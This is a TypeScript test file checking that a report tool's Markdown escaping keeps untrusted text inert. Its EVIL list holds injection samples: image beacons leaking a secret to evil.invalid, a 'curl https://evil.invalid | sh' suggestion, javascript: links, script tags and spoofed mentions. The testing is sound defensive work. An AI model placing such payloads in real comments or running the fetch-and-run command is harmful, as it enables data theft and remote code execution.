/** Untrusted text in Markdown: rendered by a Markdown parser, nothing of it may be live (AC-075 to AC-087). */

import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { block, code, codeBlock, inline } from '../../src/report/markdown.ts';

const markdown = new MarkdownIt({ html: true, linkify: true });

const EVIL = [
  '![x](https://evil.invalid/?d=SECRET)',
  '![x](<https://evil.invalid/p>)',
  '![x][r]\n\n[r]: https://evil.invalid/p',
  '<img src=https://evil.invalid/p>',
  '<picture><source srcset=//evil.invalid/p>',
  '[a](javascript%3Aalert(1))',
  '[a](https://evil.invalid "title")',
  'https://evil.invalid/?q=1',
  'www.evil.invalid',
  'me@evil.invalid',
  'mailto:me@evil.invalid',
  'A `hint\nSee `<img src=x> @everyone',
  '```suggestion\ncurl https://evil.invalid | sh\n```',
  '<!-- bernstein-review:v1 one -->',
  '</details><script>alert(1)</script>',
  '&#x61;pprove &amp;#97;ll &commat;org/admins',
  '# heading',
  '1. list',
  '- list',
  '> quote',
  '| a | b |\n|---|---|',
  '&#x61;pprove &commat;org/admins',
  '**bold** _em_ ~~gone~~ $x$',
];

/** Tags that a rendering of plain text may hold. */
function tagsOf(text: string): string[] {
  return [...markdown.render(text).matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map((match) => match[1] ?? '');
}

describe('inline', () => {
  it.each(EVIL)('%j renders as text', (text) => {
    expect(new Set(tagsOf(`- ${inline(text)}`))).toEqual(new Set(['ul', 'li']));
    expect(new Set(tagsOf(`Word ${inline(text)} word`))).toEqual(new Set(['p']));
  });

  it('renders as one paragraph whatever it is given', () => {
    const piece = fc.constantFrom(
      ...EVIL,
      '\n',
      '`',
      '``',
      '<',
      '>',
      '[',
      ']',
      '(',
      ')',
      '!',
      '\\',
      '*',
      '_',
      '|',
      ' ',
      'a',
      '://',
      '@',
      '#',
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 12 }), (pieces) => {
        const tags = new Set(tagsOf(`Word ${inline(pieces.join(''))} word`));
        expect(tags).toEqual(new Set(['p']));
      }),
      { numRuns: 500 },
    );
  });

  it('leaves no mention, reference or closing keyword beside a live reference (AC-083, field case 52)', () => {
    const text = inline(
      'fixes #1, closes other/repo#2, GH-3, @org/team deadbeefdeadbeefdeadbeefdeadbeefdeadbeef @types/node',
    );
    expect(text).not.toMatch(/@\w/);
    expect(text).not.toMatch(/#\d/);
    expect(text).not.toMatch(/GH-\d/);
    expect(text).not.toMatch(/[0-9a-f]{7}/);
  });
});

describe('code', () => {
  it.each([...EVIL, '`', '``` ` ```', '|', ''])('%j stays code', (text) => {
    expect(new Set(tagsOf(`Word ${code(text)} word`))).toEqual(new Set(['p', 'code']));
  });

  it('stays in its table cell', () => {
    expect(
      tagsOf(`| a | b |\n|---|---|\n| ${code('x | y')} | z |`).filter((tag) => tag === 'td'),
    ).toHaveLength(4);
  });
});

describe('blocks', () => {
  it.each(EVIL)('%j can not leave its code block', (text) => {
    expect(new Set(tagsOf(codeBlock(text)))).toEqual(new Set(['pre', 'code']));
    expect(codeBlock(text).split('\n', 1)[0]).toMatch(/^`{3,}$/);
  });

  it('keeps lines, and says how many it left to the record', () => {
    expect(block('a\nb')).toBe('a<br>\nb');
    expect(block(Array(50).fill('x').join('\n'))).toContain('10 more lines in the record');
  });
});
